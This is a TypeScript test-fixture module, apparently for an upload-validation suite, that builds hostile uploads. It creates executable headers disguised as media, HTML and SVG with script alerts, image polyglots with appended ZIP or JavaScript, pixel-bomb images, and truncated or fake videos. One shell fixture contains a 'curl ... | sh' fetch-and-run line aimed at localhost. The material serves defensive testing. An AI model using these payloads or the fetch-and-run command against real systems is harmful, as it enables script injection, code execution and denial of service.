/**
 * Hostile uploads, built by hand or with sharp: executables and markup dressed as media, polyglots,
 * truncated images, pixel bombs and images of an exact size. Each returns the bytes only; the
 * test names and types them as a client would.
 */
import { readFileSync } from 'node:fs';
import { deflateSync } from 'node:zlib';
import sharp from 'sharp';

/** Text that must never come back out of storage (the payload of every polyglot). */
export const payloadMarker = 'VITRINE-PAYLOAD-7f3a';
const script = `<script>alert("${payloadMarker}")</script>`;

const crcTable = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
function crc32(bytes: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of bytes) crc = crcTable[(crc ^ byte) & 0xff]! ^ (crc >>> 8);
  return (crc ^ 0xffffffff) >>> 0;
}

/** One PNG chunk: length, type, data, CRC of type and data. */
function pngChunk(type: string, data: Buffer): Buffer {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length, 0);
  head.write(type, 4, 'latin1');
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(Buffer.concat([head.subarray(4), data])), 0);
  return Buffer.concat([head, data, crc]);
}

/** `chunk` inserted right after IHDR (8-byte signature + 25-byte IHDR chunk). */
const afterIhdr = (image: Buffer, chunk: Buffer) =>
  Buffer.concat([image.subarray(0, 33), chunk, image.subarray(33)]);

export const jpeg = (width = 64, height = 48) =>
  sharp({ create: { width, height, channels: 3, background: '#1e78c8' } })
    .jpeg()
    .toBuffer();
export const png = (width = 40, height = 40) =>
  sharp({ create: { width, height, channels: 4, background: '#0ac85a' } })
    .png()
    .toBuffer();

/** A Linux executable header and code-like filler. */
export function elf(): Buffer {
  const bytes = Buffer.alloc(4_096, 0x90);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(bytes, 0);
  bytes.writeUInt16LE(2, 16); // ET_EXEC
  bytes.writeUInt16LE(0x3e, 18); // x86-64
  return bytes;
}

/** A Windows executable: MZ stub pointing at a PE header. */
export function pe(): Buffer {
  const bytes = Buffer.alloc(4_096, 0);
  bytes.write('MZ', 0, 'latin1');
  bytes.writeUInt32LE(0x80, 0x3c);
  bytes.write('PE\0\0', 0x80, 'latin1');
  bytes.write('This program cannot be run in DOS mode.', 0x4e, 'latin1');
  return bytes;
}

export const shellScript = () =>
  Buffer.from(`#!/bin/sh\necho ${payloadMarker}\ncurl http://127.0.0.1/x | sh\n`);
export const html = () => Buffer.from(`<!DOCTYPE html><html><body><h1>hi</h1>${script}</body></html>`);
export const svg = () =>
  Buffer.from(
    `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">${script}</svg>`,
  );

/** A stored (uncompressed) ZIP holding one JavaScript file, as appended to a polyglot. */
export function zip(name = 'evil.js', content = Buffer.from(script)): Buffer {
  const fileName = Buffer.from(name);
  const crc = crc32(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(fileName.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(fileName.length, 28);
  const localSize = local.length + fileName.length + content.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + fileName.length, 12);
  end.writeUInt32LE(localSize, 16);
  return Buffer.concat([local, fileName, content, central, fileName, end]);
}

/** Valid images with something else appended after their end. */
export const polyglots = {
  'JPEG + ZIP': async () => Buffer.concat([await jpeg(), zip()]),
  'JPEG + HTML': async () => Buffer.concat([await jpeg(), html()]),
  'PNG + JS': async () => Buffer.concat([await png(), Buffer.from(`\n${script}\n`)]),
  'PNG with a <script> tEXt chunk': async () =>
    afterIhdr(await png(), pngChunk('tEXt', Buffer.from(`Comment\0${script}`, 'latin1'))),
};

export const truncatedJpeg = async () => {
  const whole = await jpeg(400, 300);
  return whole.subarray(0, Math.floor(whole.length / 2));
};
export const truncatedPng = async () => {
  const whole = await sharp({
    create: {
      width: 300,
      height: 300,
      channels: 3,
      background: '#808080',
      noise: { type: 'gaussian', mean: 128, sigma: 40 },
    },
  })
    .png()
    .toBuffer();
  return whole.subarray(0, Math.floor(whole.length / 2));
};

/** A PNG of a few hundred bytes whose header declares `width` × `height` pixels. */
export function pngBomb(width = 50_000, height = 50_000): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.writeUInt8(8, 8); // bit depth
  ihdr.writeUInt8(0, 9); // greyscale
  // A few rows of zeros: decoding all of them would need width × height bytes.
  const idat = deflateSync(Buffer.alloc((width + 1) * 4));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', idat),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A real small JPEG whose frame header (SOF0) is rewritten to `width` × `height`. */
export async function jpegBomb(width = 65_000, height = 65_000): Promise<Buffer> {
  const bytes = Buffer.from(await jpeg(16, 16));
  const sof = bytes.indexOf(Buffer.from([0xff, 0xc0]));
  if (sof < 0) throw new Error('no SOF0 marker');
  bytes.writeUInt16BE(height, sof + 5);
  bytes.writeUInt16BE(width, sof + 7);
  return bytes;
}

/** A valid PNG of exactly `size` bytes: a small image padded with a private ancillary chunk. */
export async function pngOfSize(size: number): Promise<Buffer> {
  const image = await png(32, 32);
  const padding = size - image.length - 12;
  if (padding < 0) throw new Error(`a PNG cannot be as small as ${size} bytes`);
  const bytes = afterIhdr(image, pngChunk('vtPd', Buffer.alloc(padding, 0x41)));
  if (bytes.length !== size) throw new Error('size mismatch');
  return bytes;
}

/** Not a video: an HTML page, and an HTML page behind a video's first bytes (`ftyp` without a box). */
export const fakeMp4s = {
  'HTML named .mp4': async () => html(),
  'ELF named .mp4': async () => elf(),
  'three bytes of WebM magic, then HTML': async () =>
    Buffer.concat([Buffer.from([0x1a, 0x45, 0xdf]), html()]),
};

/** Real one-second videos of each accepted container (test/fixtures/README.md), and their header's length. */
export const videos = {
  mp4: { type: 'video/mp4', filename: 'clip.mp4', head: 32 },
  webm: { type: 'video/webm', filename: 'clip.webm', head: 40 },
  ogg: { type: 'video/ogg', filename: 'clip.ogg', head: 58 },
} as const;
export const video = (format: keyof typeof videos) =>
  readFileSync(new URL(`./fixtures/${videos[format].filename}`, import.meta.url));

/**
 * Files that only start like a video: a real header (the `ftyp` box, the EBML header, the first
 * Ogg page) followed by HTML or by zeros, a real video with HTML after its end, a real video cut
 * short. Their first bytes say video; their container does not parse to its end.
 */
export function brokenVideos(): Record<string, { type: string; data: Buffer }> {
  const broken: Record<string, { type: string; data: Buffer }> = {};
  for (const format of ['mp4', 'webm', 'ogg'] as const) {
    const { type, head } = videos[format];
    const whole = video(format);
    broken[`${format} header + HTML`] = { type, data: Buffer.concat([whole.subarray(0, head), html()]) };
    broken[`${format} header + zeros`] = {
      type,
      data: Buffer.concat([whole.subarray(0, head), Buffer.alloc(60_000)]),
    };
    broken[`${format} + HTML after its end`] = { type, data: Buffer.concat([whole, html()]) };
    broken[`${format} cut short`] = { type, data: whole.subarray(0, Math.floor(whole.length * 0.8)) };
  }
  return broken;
}
